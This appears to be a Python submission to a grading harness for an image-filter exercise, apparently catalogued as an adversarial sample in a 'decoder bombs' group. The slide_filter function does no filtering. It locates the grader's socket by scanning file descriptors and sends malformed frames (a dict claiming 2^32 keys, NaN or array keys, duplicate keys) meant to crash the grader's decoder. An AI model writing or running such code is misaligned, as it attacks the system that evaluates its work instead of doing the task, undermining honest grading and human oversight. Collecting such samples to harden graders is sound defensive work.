"""It sends dicts that announce 2^32 keys, hold arrays or NaN as keys, or one key twice.

exercise: ex02
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct

NAN = b"f" + struct.pack("<d", float("nan"))
BODIES = [
    b"d\xff\xff\xff\xff",
    b"d\x01\0\0\0a\x0b\0\0" + bytes(8) + b"N",
    b"d\x02\0\0\0TNTN",
    b"d\x02\0\0\0TNf" + struct.pack("<d", 1.0) + b"N",
    b"d\x01\0\0\0l\0\0\0\0N",
]


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def slide_filter(image, kernel):
    body = BODIES[int(abs(float(image[0][0])) * 8) % len(BODIES)]
    send(11, 1, b"t\x03\0\0\0" + body + b"Ns\0\0\0\0")
    return None
